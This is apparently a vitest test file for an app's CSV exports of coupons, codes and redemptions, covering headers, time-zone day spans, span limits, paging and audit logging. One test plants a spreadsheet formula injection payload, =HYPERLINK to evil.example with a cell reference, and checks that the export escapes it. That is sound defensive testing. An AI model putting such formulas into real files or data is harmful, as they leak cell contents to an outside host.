import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { DEFAULT_SETTINGS } from "../../server/store/default-settings";
import { newTestClaim } from "../builders/claims";
import { deedBy } from "../builders/members";
import { addTestCoupon, newTestId, openShop, pushed, redemption, reversal } from "../store/acceptance-shop";
import { everyStore } from "../store/every-store";
import { logOf, type MemberBench, memberAt, openBench } from "./member-bench";

const SPAN = "?from=2026-11-21&to=2026-11-22";
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1)';

let bench: MemberBench;
let codesAsked = 0;
let vera: Awaited<ReturnType<typeof memberAt>>;

async function fileOf(name: "couponsFile" | "codesFile" | "redemptionsFile", query = "", couponId = "LIST") {
  const response = await vera.browser.call(name, { params: { couponId }, query });
  expect(response.status).toBe(200);
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
  expect(text.startsWith("\ufeff")).toBe(true);
  const [head = "", ...rows] = text.slice(1).split("\r\n").slice(0, -1);
  return { response, head, rows };
}

describe.each(await everyStore())("on $kind", ({ open }) => {
  beforeEach(async () => {
    codesAsked = 0;
    const openCounting = async () => {
      const store = await open();
      return { ...store, codesAtDesk: (...asked: Parameters<typeof store.codesAtDesk>) => ((codesAsked += 1), store.codesAtDesk(...asked)) };
    };
    bench = await openBench(openCounting);
    vera = await memberAt(bench, 1, "viewer", "Vera");
  });
  afterEach(() => bench.store.close());

  test("a list of codes is a file that spreadsheets open: whole, saved under its name, and without formulas", async () => {
    await bench.store.claim(1, newTestClaim("LIST", { name: FORMULA, externalId: "+49 170 1" }), bench.nowMs);
    const { response, head, rows } = await fileOf("codesFile");
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="codes-LIST-\d{4}-\d\d-\d\d\.csv"$/);
    expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(head.startsWith("Code,State,Name,Channel,Contact,Claimed,")).toBe(true);
    expect(rows[0]).toMatch(/^L-1,claimed,"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1\)",test,'\+49 170 1,\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,/);
    expect(rows).toHaveLength(9);
    expect((await fileOf("codesFile", "?state=claimed")).rows).toHaveLength(1);
    expect((await fileOf("couponsFile")).rows[0]).toMatch(/^LIST,LIST,LIST,\w+,/);
  });

  test("[R71] redemptions come by the days of their stores, what was undone is marked, and sums add up", async () => {
    const { ours } = bench;
    const late = Date.UTC(2026, 10, 21, 22, 59, 59);
    const [first, undone] = [redemption(ours, "L-1", { atMs: late }), redemption(ours, "L-2", { atMs: late + 1_000 })];
    await pushed(ours, ours.till, first, undone, redemption(ours, "L-3", { atMs: late + 86_400_000 + 1_000 }), reversal(ours, undone.key));
    await pushed(ours, ours.otherTill, redemption(ours, "L-1", { atMs: late }));
    // In Hong Kong the days wanted begin and end seven hours before.
    const hongKong = newTestId();
    await bench.store.addStore(1, { id: hongKong, name: "Mong Kok", timeZone: "Asia/Hong_Kong" }, deedBy("Tests", bench.nowMs));
    const there = (code: string, atMs: number) => redemption(ours, code, { atMs, contents: { storeId: hongKong } });
    await pushed(ours, ours.till, there("L-4", Date.UTC(2026, 10, 20, 16)), there("L-5", Date.UTC(2026, 10, 22, 16)));
    const { rows } = await fileOf("redemptionsFile", SPAN);
    expect(rows.map((row) => row.split(",").slice(0, 6)).toSorted()).toEqual([
      ["2026-11-21", "00:00:00", "Mong Kok", "LIST", "LIST", "L-4"],
      ["2026-11-21", "23:59:59", "Centre", "LIST", "LIST", "L-1"],
      ["2026-11-21", "23:59:59", "Centre", "LIST", "LIST", "L-1"],
      ["2026-11-22", "00:00:00", "Centre", "LIST", "LIST", "L-2"],
    ]);
    expect(rows.find((row) => row.includes("L-2"))).toMatch(/,reversed,2026-11-22 13:00:00,Wrong drink,/);
    const sums = await fileOf("redemptionsFile", `${SPAN}&sum=store-day`);
    expect([sums.head, ...sums.rows]).toEqual([
      "Day,Store,Coupon ID,Coupon,Redeemed,Reversed,In conflict",
      "2026-11-21,Centre,LIST,LIST,1,0,1",
      "2026-11-21,Mong Kok,LIST,LIST,1,0,0",
      "2026-11-22,Centre,LIST,LIST,0,1,0",
    ]);
  });

  test("a span has up to 400 days, and none that is not there", async () => {
    const statusOf = async (query: string) => (await vera.browser.call("redemptionsFile", { query })).status;
    expect(await statusOf("?from=2026-01-01&to=2027-02-04")).toBe(200);
    for (const query of ["?from=2026-01-01&to=2027-02-05", "?from=2026-02-30&to=2026-03-01", "?from=2026-02-02&to=2026-02-01", "?from=1999-12-31&to=2000-01-01", "?from=2026-02-02"]) {
      expect([query, await statusOf(query)]).toEqual([query, 400]);
    }
  });

  test("a long file comes page by page, each code once, and the client that goes ends the reading", async () => {
    const codes = Array.from({ length: 1_700 }, (_, index) => `M-${index}`);
    await addTestCoupon(bench.store, 1, "MANY", codes);
    const { rows } = await fileOf("codesFile", "", "MANY");
    expect(rows.map((row) => row.split(",")[0])).toEqual(codes);
    expect(codesAsked).toBe(4);
    const response = await vera.browser.call("codesFile", { params: { couponId: "MANY" } });
    const reader = response.body?.getReader();
    await reader?.read();
    await reader?.cancel();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(codesAsked).toBeLessThan(7);
  });

  test("[R34] files stay open on any plan, and the log says who saved which", async () => {
    const free = await openShop(bench.store, 3, DEFAULT_SETTINGS, "free");
    await pushed(free, free.till, redemption(free, "L-1"));
    const owner = await memberAt(bench, 3, "owner", "Olga");
    vera = owner;
    for (const name of ["couponsFile", "codesFile"] as const) await fileOf(name);
    await fileOf("redemptionsFile", SPAN);
    const entries = await logOf(owner.browser);
    const saved = entries.filter(({ act }) => act.endsWith("-exported")).toSorted((a, b) => (a.act < b.act ? -1 : 1));
    expect(saved).toMatchObject([
      { act: "codes-exported", subject: "LIST", by: { id: owner.id } },
      { act: "coupons-exported", by: { id: owner.id } },
      { act: "redemptions-exported", by: { id: owner.id }, after: { from: "2026-11-21", to: "2026-11-22" } },
    ]);
  });
});
